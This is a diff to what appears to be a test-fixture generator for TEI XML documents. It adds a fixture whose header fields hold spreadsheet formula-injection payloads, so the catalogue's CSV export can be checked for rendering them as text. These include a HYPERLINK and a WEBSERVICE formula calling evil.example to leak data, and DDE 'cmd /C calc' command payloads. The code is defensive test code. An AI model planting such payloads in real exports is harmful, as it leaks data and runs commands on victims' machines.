@@ -78,7 +78,29 @@ def xml_fixtures() -> dict[str, bytes]:
         "xinclude.xml": _tei("", f'<xi:include href="{SECRET_URL}" parse="text"/>',
                              tei_open=f'{TEI_OPEN[:-1]} xmlns:xi="http://www.w3.org/2001/XInclude">'),
         "xml-stylesheet.xml": _tei(f'<?xml-stylesheet type="text/xsl" href="{SECRET_URL}"?>\n', "A styled document."),
+        "formula-cells.xml": formula_cells(),
     }
+
+
+#: Header fields that start like spreadsheet formulas (the catalogue's CSV must show them as text).
+FORMULAS = {"title": '=HYPERLINK("http://evil.example/?leak="&amp;A1,"Open the letter")',
+            "idno": "@SUM(1+1)*cmd|' /C calc'!A0", "settlement": "+1+cmd|' /C calc'!A0",
+            "repository": "-2+3", "collection": "=1+1;=2+2", "translator": "@translator",
+            "summary": "=WEBSERVICE(\"http://evil.example/\")", "uploaded": "&#9;=1+1", "mainLang": "&#13;=1+1"}
+
+
+def formula_cells() -> bytes:
+    f = FORMULAS
+    header = (f"<teiHeader><fileDesc><titleStmt><title>{f['title']}</title><respStmt><resp>Translated by</resp>"
+              f"<persName>{f['translator']}</persName></respStmt></titleStmt>"
+              f"<publicationStmt><p>x</p><date type=\"uploaded\" when=\"{f['uploaded']}\"/></publicationStmt>"
+              f"<sourceDesc><msDesc><msIdentifier><settlement>{f['settlement']}</settlement>"
+              f"<repository>{f['repository']}</repository><collection>{f['collection']}</collection>"
+              f"<idno>{f['idno']}</idno></msIdentifier><msContents><textLang mainLang=\"{f['mainLang']}\"/>"
+              f"</msContents></msDesc></sourceDesc></fileDesc>"
+              f"<profileDesc><abstract><p>{f['summary']}</p></abstract></profileDesc></teiHeader>")
+    return (f'<?xml version="1.0"?>\n{TEI_OPEN}{header}<text><body><p>Formulas in the header.</p></body></text>'
+            f"</TEI>\n").encode()
 
 
 def write_small() -> None:
